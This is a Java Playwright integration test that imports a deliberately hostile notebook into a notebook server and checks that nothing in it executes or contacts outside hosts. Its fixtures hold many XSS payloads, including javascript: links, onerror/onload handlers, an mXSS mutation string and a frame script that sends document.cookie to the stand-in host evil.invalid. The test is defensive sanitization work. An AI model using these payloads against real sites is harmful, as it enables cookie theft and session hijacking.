package io.millrace.server.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import io.millrace.server.client.WorkbenchClient;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** A notebook full of script, as a stranger sends it: opening, reading and touching it runs nothing in the page, asks nobody outside, and leads nowhere. */
class HostileNotebookIT extends InBrowser {
    private static final String MARK = "window.top.pwned=(window.top.pwned||'')+";

    private static JsonObject markdown(String source) {
        return new JsonObject().put("cell_type", "markdown").put("metadata", new JsonObject()).put("source", source);
    }

    private static JsonObject code(JsonObject... outputs) {
        return new JsonObject().put("cell_type", "code").put("metadata", new JsonObject()).put("source", "// hostile").put("execution_count", 1).put("outputs", new JsonArray(List.of(outputs)));
    }

    private static JsonObject shown(String mime, Object data) {
        return new JsonObject().put("output_type", "display_data").put("metadata", new JsonObject()).put("data", new JsonObject().put(mime, data));
    }

    private static String notebook() {
        String all = """
                <script>%1$s'script'</script><img src=x onerror="%1$s'img'"><svg onload="%1$s'svg'"></svg><iframe srcdoc="<script>%1$s'srcdoc'</script>"></iframe>
                <a href="javascript:%1$s'link'" id="notebook">press</a> <style>body{display:none}</style><base href="http://evil.invalid/"><meta http-equiv="refresh" content="0;url=http://evil.invalid/">
                <form action="http://evil.invalid/"><button autofocus onfocus="%1$s'focus'">send</button></form><link rel=stylesheet href="http://evil.invalid/x.css">
                <form><math><mtext></form><form><mglyph><style></math><img src onerror="%1$s'mutation'">
                """.formatted(MARK);
        String frame = """
                <script>
                try { %1$s'parent' } catch (e) {}
                try { parent.document.title = 'pwned' } catch (e) {}
                try { top.location = 'http://evil.invalid/top' } catch (e) {}
                try { fetch('http://evil.invalid/fetch?' + document.cookie) } catch (e) {}
                try { new Image().src = 'http://evil.invalid/image' } catch (e) {}
                try { localStorage.setItem('x', 1) } catch (e) {}
                try { window.open('http://evil.invalid/window') } catch (e) {}
                try { alert('x') } catch (e) {}
                try { new WebSocket('ws://evil.invalid/') } catch (e) {}
                parent.postMessage({ type: 'height', height: 1e9 }, '*');
                document.body.insertAdjacentHTML('beforeend', '<p>the frame ran</p>');
                setTimeout(function () { location = 'http://evil.invalid/frame' }, 50);
                </script>""".formatted(MARK);
        String svg = "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"" + MARK + "'svg2'\"><script>" + MARK + "'svg3'</script><foreignObject><img src=x onerror=\"" + MARK + "'foreign'\"/></foreignObject>"
                + "<image href='http://evil.invalid/svg.png'/><rect width='40' height='40'/></svg>";
        JsonObject chart = new JsonObject().put("baseOption", new JsonObject().put("tooltip", new JsonObject().put("renderMode", "html").put("trigger", "item").put("formatter", "<img src=x onerror=\"" + MARK + "'chart'\">"))
                .put("title", new JsonObject().put("text", "press me").put("link", "javascript:" + MARK + "'title'").put("target", "self"))
                .put("xAxis", new JsonObject().put("type", "category").put("data", new JsonArray(List.of("a", "b")))).put("yAxis", new JsonObject())
                .put("series", new JsonArray(List.of(new JsonObject().put("type", "bar").put("data", new JsonArray(List.of(5, 5)))))));
        return new JsonObject().put("nbformat", 4).put("nbformat_minor", 4).put("metadata", new JsonObject().put("title", "<img src=x onerror=\"" + MARK + "'title'\">")).put("cells", new JsonArray(List.of(
                markdown(all), markdown("[a](javascript:" + MARK + "'md') ![b](http://evil.invalid/md.png) <javascript:" + MARK + "'auto'> $\\href{javascript:" + MARK + "'tex'}{x}$ $\\htmlData{x=1}{y}$"),
                code(shown("text/html", all)), code(shown("text/html", frame)), code(shown("image/svg+xml", svg)), code(shown("application/vnd.millrace.echarts+json", chart)),
                code(shown("application/javascript", MARK + "'js'"), shown("text/markdown", all), shown("text/latex", "\\href{javascript:" + MARK + "'latex'}{x}")),
                code(new JsonObject().put("output_type", "stream").put("name", "stdout").put("text", "\u001b]8;;javascript:" + MARK + "'osc'\u0007press\u001b]8;;\u0007 <img src=x onerror=1>\n"),
                        new JsonObject().put("output_type", "error").put("ename", "<img src=x onerror=\"" + MARK + "'e'\">").put("evalue", "<script>1</script>").put("traceback", new JsonArray(List.of(all))))))).encode();
    }

    @Test
    void aNotebookFullOfScriptRunsNothingInThePageAndAsksNobody() {
        String id;
        try (WorkbenchClient client = new WorkbenchClient(server.address())) {
            id = client.importNotebook(notebook());
        }
        List<String> said = new ArrayList<>();
        List<String> outside = new ArrayList<>();
        String origin = server.address().getScheme() + "://" + server.address().getAuthority();
        page.onDialog(dialog -> {
            said.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        page.context().onPage(other -> said.add("window " + other.url()));
        page.context().onRequest(request -> {
            if (!request.url().startsWith(origin) && !request.url().startsWith("data:") && !request.url().startsWith("blob:")) {
                outside.add(request.url());
            }
        });
        // What the page's policy stops is told as a request that failed for it; nothing of it left the browser.
        page.context().onRequestFailed(request -> {
            if ("csp".equals(request.failure())) {
                outside.remove(request.url());
            }
        });
        NotebookPage notebook = NotebookPage.open(page, origin + "/notebooks/" + id);
        Locator cells = notebook.cells();
        assertThat(cells).hasCount(8);
        for (int i = 0; i < 8; i++) {
            cells.nth(i).scrollIntoViewIfNeeded();
        }
        // The frame's own script runs, within the frame.
        Locator frames = page.getByTestId("html-frame");
        assertThat(frames.nth(1)).isVisible();
        Locator chart = cells.nth(5).locator("canvas").first();
        chart.scrollIntoViewIfNeeded();
        assertThat(chart).isVisible();
        chart.hover();
        for (Locator link : page.locator("main a").all()) {
            assertTrue(!String.valueOf(link.getAttribute("href")).strip().toLowerCase(java.util.Locale.ROOT).startsWith("javascript:"), link.getAttribute("href"));
        }
        for (Locator frame : frames.all()) {
            frame.scrollIntoViewIfNeeded();
            assertTrue(frame.boundingBox().height <= 4_000);
        }
        // Still the same page, in use.
        assertEquals(origin + "/notebooks/" + id, page.url());
        NotebookPage.shown(page);
        Locator mine = notebook.write(6, "6 * 7");
        notebook.runToEnd(mine);
        assertThat(mine.getByTestId("text")).hasText("42");
        assertEquals(null, page.evaluate("window.pwned"));
        assertEquals(List.of(), said);
        assertEquals(List.of(), outside);
        assertThat(page.locator("body")).isVisible();
        assertEquals(0, page.locator("main [onerror], main [onload], main [onfocus], main script, main form, main base, main meta").count());
    }
}
